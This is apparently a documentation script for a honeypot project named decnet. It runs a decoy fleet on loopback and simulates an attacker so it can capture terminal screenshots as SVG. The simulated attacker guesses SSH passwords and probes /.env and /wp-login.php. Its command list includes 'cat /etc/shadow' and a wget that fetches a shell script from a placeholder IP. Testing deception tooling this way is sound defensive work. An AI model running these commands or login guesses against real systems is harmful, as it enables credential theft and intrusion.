# SPDX-License-Identifier: MIT
"""Takes the pictures of the pages: SVG of terminals in which a real fleet runs and is attacked over loopback.

    unshare --map-root-user --net sh -c 'ip link set lo up && python docs/capture.py'    (as root without the option)
    python docs/capture.py --dashboard

The network of its own is needed, because the deckies have their default addresses. The second takes those of the
dashboard, where Chromium is: they are what its tests look at, with a fleet of their own. `nox -s pictures` does both.
"""

from __future__ import annotations

import asyncio
import fcntl
import os
import pty
import re
import shutil
import struct
import subprocess
import sys
import tempfile
import termios
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import asyncssh
from rich.console import Console
from rich.text import Text

PICTURES = Path(__file__).parent / "pictures"
COLUMNS, LINES = 100, 30
DECNET = [sys.executable, "-m", "decnet"]
COMMANDS = ("uname -a", "cat /etc/shadow", "wget http://198.51.100.23/x.sh -O /tmp/x", "exit")
PAGES = {"summary": ["summary"], "attacker": ["attacker", "127.9.8.7"]}
"""Pictures of commands."""
DASHBOARD = {"dashboard-deckies": "deckies", "dashboard-workers": "workers"}
"""Pictures of the dashboard, and what its tests call them."""

_FONT = re.compile(r"\s*@font-face \{.*?\}", re.DOTALL)
_SEQUENCE = re.compile(r"\x1b\[(\?[0-9;]*[a-z]|[0-9;]*[A-HJKf])|\x1b[()][A-Z0-9]")
"""Control sequences other than those of colours (xterm)."""


class Terminal:
    """A terminal in which `decnet up` runs."""

    def __init__(self, state: Path) -> None:
        self.shown = b""
        self._process, self._descriptor = pty.fork()
        if self._process == 0:
            os.environ.update({"TERM": "xterm-256color", "DECNET_STATE_DIR": str(state)})
            os.execv(sys.executable, [*DECNET, "up", "--ready-file", f"{state}.ready"])
        fcntl.ioctl(self._descriptor, termios.TIOCSWINSZ, struct.pack("HHHH", LINES, COLUMNS, 0, 0))
        os.set_blocking(self._descriptor, False)

    def until(self, words: str, without: str | None = None, seconds: float = 120) -> None:
        """Wait until the terminal shows `words`, `without` others; raises SystemExit when that takes too long."""
        deadline = time.monotonic() + seconds
        while words not in self.screen() or (without is not None and without in self.screen()):
            if time.monotonic() > deadline:
                sys.exit(f"{words!r} was not shown:\n{self.screen()}")
            self.read()

    def read(self) -> None:
        try:
            self.shown += os.read(self._descriptor, 1 << 20)
        except BlockingIOError:
            time.sleep(0.05)

    def screen(self) -> str:
        """Return what it shows now: the page that was drawn last."""
        pages = self.shown.decode("utf-8", "replace").replace("\r", "").split("\x1b[H")
        return _SEQUENCE.sub("", pages[-1])

    def stop(self) -> None:
        os.write(self._descriptor, b"\x03")
        deadline = time.monotonic() + 60
        while os.waitpid(self._process, os.WNOHANG) == (0, 0):
            self.read() if time.monotonic() < deadline else os.kill(self._process, 9)


def main() -> None:
    """Take all pictures."""
    PICTURES.mkdir(exist_ok=True)
    with tempfile.TemporaryDirectory() as folder, running(Path(folder) / "decnet") as terminal:
        os.environ["DECNET_STATE_DIR"] = str(Path(folder) / "decnet")
        asyncio.run(log_in("127.9.8.7"))
        look("127.77.0.11", "/.env", "/wp-login.php", "/")
        terminal.until("T1003.008")
        terminal.until("GET /wp-login.php", without="not ready")
        draw(
            "live", "decnet up", terminal.screen().replace(f" --state {folder}/decnet", "").replace(folder, "/var/lib")
        )
        for name, command in PAGES.items():
            done = subprocess.run([*DECNET, *command], capture_output=True, text=True, check=True)
            draw(name, f"decnet {' '.join(command)}", done.stdout)


def take_dashboard() -> None:
    """Have the tests of the fleet's pages take theirs, and keep those that the pages show."""
    tests = ["-m", "pytest", "-q", "-m", "browser", "--timeout", "900", "tests/decnet_web/browser", "-k", "fleet"]
    with tempfile.TemporaryDirectory() as folder:
        subprocess.run([sys.executable, *tests], check=True, env={**os.environ, "DECNET_SCREENSHOTS": folder})
        for name, shown in DASHBOARD.items():
            shutil.copyfile(Path(folder) / f"{shown}.png", PICTURES / f"{name}.png")
            print(PICTURES / f"{name}.png")


@contextmanager
def running(state: Path) -> Iterator[Terminal]:
    terminal, deadline = Terminal(state), time.monotonic() + 120
    try:
        ready = Path(f"{state}.ready")
        while not ready.exists() and time.monotonic() < deadline:
            terminal.read()
        yield terminal
    finally:
        terminal.stop()


async def log_in(source: str) -> None:
    """Guess a password, get in, and do what they do."""
    options = {"known_hosts": None, "username": "root", "local_addr": (source, 0), "port": 2222, "client_keys": None}
    for password in ("123456", "admin123"):
        try:
            async with (
                asyncssh.connect("127.77.0.10", password=password, **options) as connection,
                connection.create_process(term_type="xterm", term_size=(COLUMNS, LINES)) as shell,
            ):
                for command in COMMANDS:
                    shell.stdin.write(f"{command}\n")
                    await asyncio.sleep(0.4)  # as somebody types
                await shell.wait()
        except asyncssh.PermissionDenied:
            continue


def look(address: str, *paths: str) -> None:
    for path in paths:
        try:
            urllib.request.urlopen(f"http://{address}:8080{path}", timeout=20).read()
        except urllib.error.HTTPError:
            continue


def draw(name: str, title: str, text: str) -> None:
    """Write docs/pictures/NAME.svg of what a terminal shows."""
    lines = [line.rstrip() for line in text.rstrip().splitlines()][:LINES]
    with Path(os.devnull).open("w", encoding="utf-8") as nowhere:
        console = Console(record=True, width=COLUMNS, file=nowhere, force_terminal=True, color_system="truecolor")
        console.print(Text.from_ansi("\n".join(lines)), no_wrap=True, overflow="crop", soft_wrap=True)
        picture = console.export_svg(title=title, unique_id=f"decnet-{name}")
    (PICTURES / f"{name}.svg").write_text(_FONT.sub("", picture), encoding="utf-8")  # no font from other hosts
    print(PICTURES / f"{name}.svg")  # the command's output


if __name__ == "__main__":
    take_dashboard() if sys.argv[1:] == ["--dashboard"] else main()
